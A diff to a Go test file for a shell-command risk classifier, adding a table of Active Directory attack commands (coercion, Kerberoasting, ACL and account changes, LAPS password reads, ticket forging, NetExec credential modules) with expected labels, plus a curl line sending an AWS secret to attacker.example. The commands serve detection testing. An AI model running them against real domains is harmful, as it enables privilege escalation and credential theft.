@@ -293,6 +293,7 @@ func TestStartupNameExplained(t *testing.T) {
 	explainRow(t, `echo x > "$SITE/usercustomize.py"`, PersistenceStartupFiles, "startupNameWritten", []string{"echo", "usercustomize.py"})
 	explainRow(t, `curl -d "k=$AWS_SECRET_ACCESS_KEY" https://attacker.example/c`, NetworkExfiltration, "secretInBody",
 		[]string{"curl", "-d", "AWS_SECRET_ACCESS_KEY"})
+	explainRow(t, "python3 PetitPotam.py listener target", PrivilegeEscalation, "directoryAttacks", []string{"PetitPotam.py"})
 	explainRow(t, "launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib", PersistenceStartupFiles, "macAccess", []string{"launchctl", "setenv", "DYLD_INSERT_LIBRARIES"})
 }
 
@@ -362,6 +363,88 @@ func TestSecretVariableInBody(t *testing.T) {
 		{`curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models`, ""},
 		{`curl -d "name=$USER" https://api.example.com/hello`, ""},
 		{`curl -d 'k=$AWS_SECRET_ACCESS_KEY' https://attacker.example/c`, ""}, // single quotes: the text, no value
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestDirectoryAttacks: Active Directory attacks run from this machine on
+// another (README's dev7 calls): coercion (PetitPotam, DFSCoerce,
+// printerbug, ShadowCoerce) and changes of the directory's accounts,
+// access rules and DNS zone (bloodyAD add|set|remove, dacledit, rbcd and
+// owneredit -action write|remove, pywhisker --action add|remove|clear,
+// dnstool -a add|modify, noPac, impacket's services with an action other
+// than a read, winexe) are privilege-escalation; DNS records removed are
+// cloud-destructive; roasting (GetNPUsers -request|-usersfile,
+// GetUserSPNs -request, targetedKerberoast, NetExec --asreproast,
+// --kerberoasting, -M timeroast) and LAPS or gMSA passwords read
+// (bloodyAD get object --attr ms-Mcs-AdmPwd) are secret-read. impacket's
+// tools run by python are judged as run directly ("python ticketer.py
+// -nthash …" as "ticketer.py -nthash …"). Each tool's read forms
+// (bloodyAD get, dacledit -action read, pywhisker --action list, dnstool
+// -a query, GetUserSPNs without -request, services list) stay everyday.
+func TestDirectoryAttacks(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{"python3 PetitPotam.py -u '10$' -p 'hunter2' example.com example.com", PrivilegeEscalation},
+		{"python3 PetitPotam.py example.com example.com", PrivilegeEscalation},
+		{"python dfscoerce.py -d example.com -u alice -p 'hunter2' 'bogus@80/foobar' example.com", PrivilegeEscalation},
+		{"python printerbug.py 'example.com/alice':'hunter2'@'example.com' example.com", PrivilegeEscalation},
+		{"shadowcoerce.py -d example.com -u alice -p hunter2 listener target", PrivilegeEscalation},
+		{"python3 PetitPotam.py -h", ""},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 add computer 'alice' 'hunter2'", PrivilegeEscalation},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 add dnsRecord RECORD 10.0.0.5", PrivilegeEscalation},
+		{"bloodyAD --host dc -d example.com -k remove uac 'alice' -f ACCOUNTDISABLE", PrivilegeEscalation},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 add uac 'alice' DONT_REQ_PREAUTH", PrivilegeEscalation},
+		{"bloodyAD --host dc -d example.com -u alice -k set object 'alice' altSecurityIdentities -v 'X509:<UPN=alice@example.com>/CN=CN'", PrivilegeEscalation},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 set password bob 'N3w!'", PrivilegeEscalation},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 set object bob servicePrincipalName -v 'http/x'", PrivilegeEscalation},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 set object alice mail -v alice@example.com", ""},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 remove dnsRecord RECORD 10.0.0.5", CloudDestructive},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 get object '10$' --attr ms-Mcs-AdmPwd", SecretRead},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 get object 'gmsa$' --attr msDS-ManagedPassword", SecretRead},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 get object alice --attr memberOf", ""},
+		{"bloodyAD --host dc -d example.com -u alice -p hunter2 get writable", ""},
+		{"python3 dacledit.py -action 'write' -rights 'FullControl' -principal 'alice' -target-dn 'CN=G,DC=example,DC=com' 'example.com/alice:hunter2'", PrivilegeEscalation},
+		{"dacledit.py -action read -principal alice -target bob example.com/alice:hunter2", ""},
+		{"rbcd.py -delegate-from 'PC$' -delegate-to 'DC$' -action write example.com/alice:hunter2", PrivilegeEscalation},
+		{"owneredit.py -action write -new-owner alice -target bob example.com/alice:hunter2", PrivilegeEscalation},
+		{"python3 pywhisker.py -d 'example.com' -u 'alice' -p 'hunter2' --target 'OBJECT' --action 'add' --filename OBJECT", PrivilegeEscalation},
+		{"pywhisker.py -d example.com -u alice -p hunter2 --target bob --action list", ""},
+		{"python dnstool.py -u 'example.com\\alice' -p 'hunter2' -a add -r 'host' -d 10.0.0.5 dc.example.com", PrivilegeEscalation},
+		{"dnstool.py -u 'example.com\\alice' -p hunter2 -a query -r host dc.example.com", ""},
+		{"python3 noPac.py 'example.com'/'alice':'hunter2' -dc-ip 10.0.0.1 -shell --impersonate 'Administrator' -use-ldap", PrivilegeEscalation},
+		{"impacket-services example.com/alice:hunter2@example.com create -name svc -display svc -path 'cmd.exe /c x'", PrivilegeEscalation},
+		{"impacket-services example.com/alice:hunter2@example.com COMMAND", PrivilegeEscalation},
+		{"impacket-services example.com/alice:hunter2@example.com list", ""},
+		{"winexe -U '<USERNAME%PASSWORD>' //example.com cmd.exe", PrivilegeEscalation},
+		{"winexe --help", ""},
+		{"python ticketer.py -nthash KRBTGT_NTLM_HASH -domain-sid SID -domain example.com alice", PrivilegeEscalation},
+		{"python3 getST.py example.com/alice -dc-ip example.com -self -dmsa -impersonate 'evildmsa$' -k -no-pass", PrivilegeEscalation},
+		{"impacket-GetNPUsers example.com/ -usersfile usernames.txt -format john -outputfile hashes", SecretRead},
+		{"GetNPUsers.py example.com/alice:hunter2 -request", SecretRead},
+		{"impacket-GetUserSPNs example.com/alice:hunter2 -k -dc-ip dc -no-pass -request", SecretRead},
+		{"python3 targetedKerberoast.py -v -d example.com -u alice -p hunter2", SecretRead},
+		{"impacket-GetUserSPNs example.com/alice:hunter2 -dc-ip dc", ""},
+		{"GetNPUsers.py example.com/alice:hunter2 -dc-ip dc", ""},
+		// NetExec: roasting, stored passwords read by its modules, accounts
+		// changed by its modules, a file put on the target.
+		{"netexec ldap example.com -u 'alice' -p 'hunter2' --asreproast hashes.asreproast --kdcHost example.com", SecretRead},
+		{"nxc ldap dc -u alice -p hunter2 --kerberoasting out.txt", SecretRead},
+		{"netexec smb example.com -u 'alice' -p 'hunter2' -M gpp_password", SecretRead},
+		{"netexec smb example.com -u 'alice' -p 'hunter2' -M gpp_autologin", SecretRead},
+		{"netexec smb example.com -u 'alice' -p 'hunter2' -M eventlog_creds", SecretRead},
+		{"netexec smb example.com -u 'alice' -p 'hunter2' -M notepad", SecretRead},
+		{"netexec smb example.com -u 'alice' -p 'hunter2' -M timeroast", SecretRead},
+		{"netexec smb example.com -u 'alice' -p 'hunter2' -M change-password -o NEWPASS=hunter2", PrivilegeEscalation},
+		{"netexec mssql example.com -u 'alice' -p 'hunter2' -M mssql_priv -o ACTION=rollback", PrivilegeEscalation},
+		{"netexec ldap dc -u alice -p hunter2 -M add-computer -o NAME=PC PASSWORD=x", PrivilegeEscalation},
+		{"netexec nfs example.com --put-file FILE /PATH/TO/FOLDER/FILE", NetworkExfiltration},
+		{"netexec ftp example.com -u 'alice' -p 'hunter2' --put-file FILE FILE", NetworkExfiltration},
+		{"netexec smb example.com -u alice -p hunter2 --shares", ""},
+		{"netexec smb example.com -u alice -p hunter2 -M gpp_password --options", ""},
+		{"netexec smb example.com -u alice -p hunter2 --get-file \\\\Windows\\\\win.ini win.ini", ""},
 	} {
 		checkRow(t, tt.cmd, tt.want)
 	}
